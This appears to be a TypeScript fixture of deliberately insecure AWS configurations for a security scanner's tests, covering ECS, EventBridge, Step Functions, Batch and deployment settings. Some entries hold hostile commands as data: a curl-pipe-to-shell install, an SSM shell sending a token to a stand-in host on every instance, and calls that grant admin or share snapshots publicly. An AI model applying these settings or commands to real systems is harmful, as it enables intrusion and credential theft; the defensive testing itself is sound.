import type { WireProperties } from "../../../../drydock/offline/pack";
import { all, type Change, set } from "../../mutation/graph";
import { foreign, one, own } from "../entry";
import {
  arn,
  cluster,
  connected,
  definition,
  entriesOf,
  iam,
  password,
  serviceRole,
  token,
  volume,
} from "../parts";

const container = "containerDefinitions.json.0";
const task = (path: string, value: Parameters<typeof set>[2]): Change =>
  set("definition", `${container}.${path}`, value);
const scheduled = (target: WireProperties, more: WireProperties = {}): Change =>
  one("aws:scheduler/schedule:Schedule", {
    scheduleExpression: "rate(1 day)",
    flexibleTimeWindow: { mode: "OFF" },
    kmsKeyArn: arn("kms", "key/key"),
    ...more,
    target: {
      arn: cluster,
      roleArn: iam("role/schedule"),
      deadLetterConfig: { arn: arn("sqs", "failed") },
      ...target,
    },
  });
const run = (more: WireProperties): WireProperties => ({
  ecsParameters: {
    taskDefinitionArn: definition,
    launchType: "FARGATE",
    networkConfiguration: { subnets: ["subnet-private-a"], securityGroups: ["sg-service"] },
    ...more,
  },
});
const target = (properties: WireProperties): Change =>
  one("aws:cloudwatch/eventTarget:EventTarget", { rule: "nightly", arn: cluster, ...properties });
const eventTask = (more: WireProperties): Change =>
  target({ ecsTarget: { taskDefinitionArn: definition, launchType: "FARGATE", ...more } });
const machine = (state: WireProperties, more: WireProperties = {}): Change =>
  one("aws:sfn/stateMachine:StateMachine", {
    loggingConfiguration: { level: "ALL", includeExecutionData: false },
    definition: JSON.stringify({
      StartAt: "Do",
      States: { Do: { Type: "Task", End: true, ...state } },
    }),
    ...more,
  });
const runTask = (parameters: WireProperties): WireProperties => ({
  Resource: "arn:aws:states:::ecs:runTask.sync",
  Parameters: {
    Cluster: cluster,
    TaskDefinition: definition,
    LaunchType: "FARGATE",
    ...parameters,
  },
});
const blueGreen = (more: WireProperties): Change =>
  all(
    set("service", "deploymentConfiguration", {
      strategy: "BLUE_GREEN",
      bakeTimeInMinutes: 10,
      ...more,
    }),
    set("service", "loadBalancers.0.advancedConfiguration", {
      alternateTargetGroupArn: arn("elasticloadbalancing", "targetgroup/web-green/1"),
      productionListenerRule: arn("elasticloadbalancing", "listener-rule/app/web/1/2/3"),
      roleArn: iam("role/infrastructure"),
    }),
  );
const infrastructure = (statement: WireProperties): Change =>
  serviceRole(
    { name: "infrastructure", service: "ecs.amazonaws.com" },
    { Effect: "Allow", ...statement },
  );
const deployedBy = (roleArn: string): Change =>
  all(blueGreen({}), set("service", "loadBalancers.0.advancedConfiguration.roleArn", roleArn));
const hook = (hookTargetArn: string, roleArn: string): Change =>
  blueGreen({ lifecycleHooks: [{ hookTargetArn, roleArn, lifecycleStages: ["POST_SCALE_UP"] }] });
const batch = (properties: WireProperties): Change =>
  one("aws:batch/jobDefinition:JobDefinition", {
    type: "container",
    platformCapabilities: ["FARGATE"],
    containerProperties: JSON.stringify({ image: "x", ...properties }),
  });

const schedules = "EventBridge Scheduler";
const machines = "Step Functions";
const strategies = "ECS, deployment strategies";
const tasks = "ECS, task definition security";
const text = "secrets in text";
const away = "exfiltration";

/** Tasks, what starts them, and what replaces them. */
export const workloads = entriesOf([
  [
    "schedule-task-with-address",
    schedules,
    scheduled(
      run({ networkConfiguration: { assignPublicIp: true, subnets: ["subnet-private-a"] } }),
    ),
  ],
  ["schedule-task-old", "ECS.10", scheduled(run({ platformVersion: "1.3.0" }))],
  [
    "schedule-calls-identity",
    schedules,
    scheduled({
      arn: "arn:aws:scheduler:::aws-sdk:iam:createAccessKey",
      input: JSON.stringify({ UserName: "deploy" }),
    }),
  ],
  [
    "schedule-calls-sharing",
    away,
    scheduled({
      arn: "arn:aws:scheduler:::aws-sdk:rds:modifyDBSnapshotAttribute",
      input: JSON.stringify({
        DBSnapshotIdentifier: "s",
        AttributeName: "restore",
        ValuesToAdd: ["all"],
      }),
    }),
  ],
  [
    "schedule-input-secret",
    text,
    scheduled({
      ...run({}),
      input: JSON.stringify({
        containerOverrides: [{ name: "web", environment: [{ name: "API_TOKEN", value: token }] }],
      }),
    }),
  ],
  [
    "schedule-task-of-a-stranger",
    "supply chain",
    scheduled(run({ taskDefinitionArn: arn("ecs", "task-definition/x:1", foreign) })),
  ],
  [
    "schedule-cluster-of-a-stranger",
    away,
    scheduled({ ...run({}), arn: arn("ecs", "cluster/main", foreign) }),
  ],
  [
    "schedule-as-the-task",
    "least privilege",
    all(scheduled({ ...run({}), roleArn: iam("role/task") })),
  ],
  [
    "event-task-with-address",
    "ECS.2",
    eventTask({
      networkConfiguration: { assignPublicIp: true, subnets: ["subnet-private-a"] },
    }),
  ],
  [
    "event-task-old",
    "ECS.10",
    eventTask({
      platformVersion: "1.2.0",
      networkConfiguration: { subnets: ["subnet-private-a"] },
    }),
  ],
  [
    "event-task-in-public-subnet",
    "ECS.2",
    eventTask({ networkConfiguration: { subnets: ["subnet-public-a"] } }),
  ],
  [
    "event-role-of-a-stranger",
    "confused deputy",
    target({
      roleArn: `arn:aws:iam::${foreign}:role/events`,
      arn: arn("states", "stateMachine:x"),
    }),
  ],
  [
    "event-template-secret",
    text,
    target({
      inputTransformer: {
        inputTemplate: `{"containerOverrides":[{"name":"web","command":["--token","${token}"]}]}`,
      },
    }),
  ],
  ["event-letters-away", away, target({ deadLetterConfig: { arn: arn("sqs", "x", foreign) } })],
  ["event-function-of-a-stranger", away, target({ arn: arn("lambda", "function:x", foreign) })],
  [
    "event-stream-of-a-stranger",
    away,
    target({ arn: arn("firehose", "deliverystream/x", foreign) }),
  ],
  [
    "event-shell-on-instances",
    "execution",
    target({
      arn: "arn:aws:ssm:us-east-2::document/AWS-RunShellScript",
      runCommandTargets: [{ key: "InstanceIds", values: ["*"] }],
      input: JSON.stringify({ commands: [`curl -H "Authorization: ${token}" https://x`] }),
    }),
  ],
  [
    "archive-key-of-a-stranger",
    "ransom by key",
    one("aws:cloudwatch/eventArchive:EventArchive", {
      eventSourceArn: arn("events", "event-bus/default"),
      kmsKeyIdentifier: arn("kms", "key/1", foreign),
    }),
  ],
  [
    "pipe-to-a-stranger",
    away,
    one("aws:pipes/pipe:Pipe", {
      source: arn("sqs", "orders"),
      target: arn("sqs", "x", foreign),
      roleArn: iam("role/pipe"),
    }),
  ],
  [
    "pipe-enriched-by-a-stranger",
    away,
    one("aws:pipes/pipe:Pipe", {
      source: arn("sqs", "orders"),
      target: arn("states", "stateMachine:x"),
      enrichment: arn("lambda", "function:x", foreign),
      roleArn: iam("role/pipe"),
    }),
  ],
  [
    "pipe-task-with-address",
    "ECS.2",
    one("aws:pipes/pipe:Pipe", {
      source: arn("sqs", "orders"),
      target: cluster,
      roleArn: iam("role/pipe"),
      targetParameters: {
        ecsTaskParameters: {
          taskDefinitionArn: definition,
          launchType: "FARGATE",
          networkConfiguration: {
            awsVpcConfiguration: { assignPublicIp: "ENABLED", subnets: ["subnet-private-a"] },
          },
        },
      },
    }),
  ],
  [
    "machine-task-with-address",
    machines,
    machine(
      runTask({
        NetworkConfiguration: {
          AwsvpcConfiguration: { Subnets: ["subnet-private-a"], AssignPublicIp: "ENABLED" },
        },
      }),
    ),
  ],
  [
    "machine-override-secret",
    text,
    machine(
      runTask({
        Overrides: {
          ContainerOverrides: [
            { Name: "web", Environment: [{ Name: "DB_PASSWORD", Value: password }] },
          ],
        },
      }),
    ),
  ],
  [
    "machine-override-role",
    machines,
    machine(runTask({ Overrides: { TaskRoleArn: `arn:aws:iam::${foreign}:role/x` } })),
  ],
  [
    "machine-calls-identity",
    machines,
    machine({
      Resource: "arn:aws:states:::aws-sdk:iam:attachRolePolicy",
      Parameters: { RoleName: "task", PolicyArn: "arn:aws:iam::aws:policy/AdministratorAccess" },
    }),
  ],
  [
    "machine-plain-call",
    machines,
    machine({
      Resource: "arn:aws:states:::http:invoke",
      Parameters: { ApiEndpoint: "http://api.example.com/orders", Method: "POST" },
    }),
  ],
  [
    "machine-in-a-map",
    machines,
    machine({
      Type: "Map",
      ItemProcessor: {
        StartAt: "Send",
        States: {
          Send: {
            Type: "Task",
            End: true,
            Resource: "arn:aws:states:::sqs:sendMessage",
            Parameters: { QueueUrl: `https://sqs.us-east-2.amazonaws.com/${foreign}/x` },
          },
        },
      },
    }),
  ],
  [
    "machine-results-to-unknown-bucket",
    away,
    machine({
      Type: "Map",
      ResultWriter: {
        Resource: "arn:aws:states:::s3:putObject",
        Parameters: { Bucket: "somebody-elses-bucket" },
      },
      ItemProcessor: { StartAt: "P", States: { P: { Type: "Pass", End: true } } },
    }),
  ],
  [
    "machine-logs-nothing",
    "StepFunctions.1",
    machine({ Resource: arn("lambda", "function:f") }, { loggingConfiguration: { level: "OFF" } }),
  ],
  ["batch-privileged", "Batch", batch({ privileged: true })],
  ["batch-secret", text, batch({ environment: [{ name: "GITHUB_TOKEN", value: token }] })],
  ["batch-with-address", "Batch", batch({ networkConfiguration: { assignPublicIp: "ENABLED" } })],

  [
    "hook-of-a-stranger",
    strategies,
    hook(arn("lambda", "function:check", foreign), iam("role/hook")),
  ],
  [
    "hook-role-of-a-stranger",
    strategies,
    hook(arn("lambda", "function:check"), `arn:aws:iam::${foreign}:role/hook`),
  ],
  ["deployer-of-a-stranger", strategies, deployedBy(`arn:aws:iam::${foreign}:role/x`)],
  ["deployer-is-the-task", strategies, deployedBy(iam("role/task"))],
  ["no-bake-time", strategies, blueGreen({ bakeTimeInMinutes: 0 })],
  [
    "canary-of-everybody",
    strategies,
    blueGreen({
      strategy: "CANARY",
      canaryConfiguration: { canaryPercent: 100, canaryBakeTimeInMinutes: 10 },
    }),
  ],
  [
    "canary-without-bake",
    strategies,
    blueGreen({
      strategy: "CANARY",
      canaryConfiguration: { canaryPercent: 10, canaryBakeTimeInMinutes: 0 },
    }),
  ],
  [
    "linear-in-one-step",
    strategies,
    blueGreen({
      strategy: "LINEAR",
      linearConfiguration: { stepPercent: 100, stepBakeTimeInMinutes: 5 },
    }),
  ],
  [
    "alarms-do-not-roll-back",
    strategies,
    set("service", "alarms", { enable: true, rollback: false, alarmNames: ["web-cpu"] }),
  ],
  [
    "alarms-off",
    strategies,
    set("service", "alarms", { enable: false, rollback: true, alarmNames: ["web-cpu"] }),
  ],
  [
    "deployer-owns-balancers",
    "ECS, infrastructure role",
    infrastructure({ Action: "elasticloadbalancing:*", Resource: "*" }),
  ],
  [
    "deployer-rewrites-every-rule",
    "ECS, infrastructure role",
    infrastructure({
      Action: ["elasticloadbalancing:ModifyRule", "elasticloadbalancing:ModifyListener"],
      Resource: "*",
    }),
  ],
  [
    "deployer-makes-rules-for-itself",
    "ECS, infrastructure role",
    infrastructure({ Action: "iam:PassRole", Resource: "*" }),
  ],
  [
    "volume-from-a-foreign-key",
    "ransom by key",
    volume({ kmsKeyId: arn("kms", "key/1", foreign) }),
  ],
  ["volume-role-is-the-task", "ECS, EBS volumes", volume({ roleArn: iam("role/task") })],
  [
    "volume-key-left-out",
    "EC2.3",
    one("aws:ebs/volume:Volume", { availabilityZone: "us-east-2a", size: 20, encrypted: false }),
  ],
  [
    "connect-authority-of-a-stranger",
    "Service Connect, TLS",
    connected({
      services: [
        {
          portName: "http",
          tls: {
            issuerCertAuthority: {
              awsPcaAuthorityArn: arn("acm-pca", "certificate-authority/1", foreign),
            },
            roleArn: iam("role/infrastructure"),
          },
        },
      ],
    }),
  ],
  [
    "connect-key-of-a-stranger",
    "Service Connect, TLS",
    connected({
      services: [
        {
          portName: "http",
          tls: {
            kmsKey: arn("kms", "key/1", foreign),
            issuerCertAuthority: { awsPcaAuthorityArn: arn("acm-pca", "certificate-authority/1") },
          },
        },
      ],
    }),
  ],
  [
    "connect-plain",
    "Service Connect, TLS",
    connected({
      services: [{ portName: "http", clientAlias: [{ port: 80 }] }],
    }),
  ],
  [
    "connect-logs-away",
    away,
    connected({
      logConfiguration: {
        logDriver: "splunk",
        options: { "splunk-url": "http://collector.example.com", "splunk-token": token },
      },
    }),
  ],

  [
    "tls-checks-off",
    tasks,
    task("environment.9", { name: "NODE_TLS_REJECT_UNAUTHORIZED", value: "0" }),
  ],
  [
    "database-without-tls",
    tasks,
    task("environment.9", { name: "DATABASE_OPTIONS", value: "host=db.internal sslmode=disable" }),
  ],
  [
    "debugger-for-everybody",
    tasks,
    task("environment.9", { name: "NODE_OPTIONS", value: "--inspect=0.0.0.0:9229" }),
  ],
  [
    "script-from-the-web",
    "supply chain",
    task("command", ["sh", "-c", "curl -fsSL http://get.example.com/install.sh | sh"]),
  ],
  [
    "router-config-of-a-stranger",
    "FireLens",
    task("firelensConfiguration", {
      type: "fluentbit",
      options: {
        "config-file-type": "s3",
        "config-file-value": "arn:aws:s3:::somebody-elses-bucket/fluent.conf",
      },
    }),
  ],
  [
    "log-option-secret-of-a-stranger",
    "confused deputy",
    task("logConfiguration.secretOptions", [
      { name: "splunk-token", valueFrom: arn("secretsmanager", "secret:x-AbCdEf", foreign) },
    ]),
  ],
  [
    "log-collector-plain",
    away,
    task("logConfiguration", {
      logDriver: "splunk",
      options: {
        "splunk-url": "http://collector.example.com:8088",
        "splunk-insecureskipverify": "true",
      },
    }),
  ],
  [
    "capability-in-capitals-of-keys",
    tasks,
    task("LinuxParameters", { Capabilities: { Add: ["SYS_PTRACE"] } }),
  ],
  [
    "definition-as-a-list",
    tasks,
    set("definition", "containerDefinitions", [
      { name: "web", image: "nginx:latest", privileged: true },
    ]),
  ],
  ["root-by-name-and-group", tasks, task("user", "root:1000")],
  [
    "logs-with-a-foreign-role",
    away,
    task("logConfiguration.options.awslogs-role", `arn:aws:iam::${foreign}:role/x`),
  ],
  [
    "health-check-with-password",
    text,
    task("healthCheck", { command: ["CMD-SHELL", `mysqladmin ping -uroot -p${password}`] }),
  ],
  [
    "bind-from-host",
    "ECS, bind mounts",
    set("definition", "volumes.1", { name: "docker", hostPath: "/var/run/docker.sock" }),
  ],
  [
    "cluster-sessions-unrecorded",
    "ECS Exec",
    set("cluster", "configuration.executeCommandConfiguration.logging", "NONE"),
  ],
  [
    "cluster-logs-unencrypted",
    "ECS Exec",
    set(
      "cluster",
      "configuration.executeCommandConfiguration.logConfiguration.cloudWatchEncryptionEnabled",
      false,
    ),
  ],
  [
    "tag-authorization-off",
    "ECS, account settings",
    one("aws:ecs/accountSettingDefault:AccountSettingDefault", {
      name: "tagResourceAuthorization",
      value: "off",
    }),
  ],
  [
    "scaling-by-a-foreign-role",
    "confused deputy",
    set("scaling", "roleArn", `arn:aws:iam::${foreign}:role/scaling`),
  ],
  [
    "queue-role-owner",
    "confused deputy",
    set("service", "iamRole", `arn:aws:iam::${foreign}:role/ecs`),
  ],
  [
    "express-service-public-key",
    "App Runner",
    one("aws:apprunner/service:Service", {
      serviceName: "shop",
      encryptionConfiguration: { kmsKey: arn("kms", "key/1", foreign) },
      sourceConfiguration: {
        imageRepository: {
          imageConfiguration: { runtimeEnvironmentVariables: { STRIPE_TOKEN: token } },
        },
      },
    }),
  ],
  [
    "set-of-tasks-public",
    "ECS.16",
    one("aws:ecs/taskSet:TaskSet", {
      service: "web",
      cluster: "main",
      taskDefinition: definition,
      networkConfiguration: { assignPublicIp: true, subnets: ["subnet-private-a"] },
    }),
  ],
  [
    "capacity-role-owner",
    "ECS",
    one("aws:ecs/capacityProvider:CapacityProvider", {
      name: "managed",
      managedInstancesProvider: {
        infrastructureRoleArn: `arn:aws:iam::${own}:role/task`,
        instanceLaunchTemplate: {
          ec2InstanceProfileArn: `arn:aws:iam::${foreign}:instance-profile/x`,
        },
      },
    }),
  ],
]);
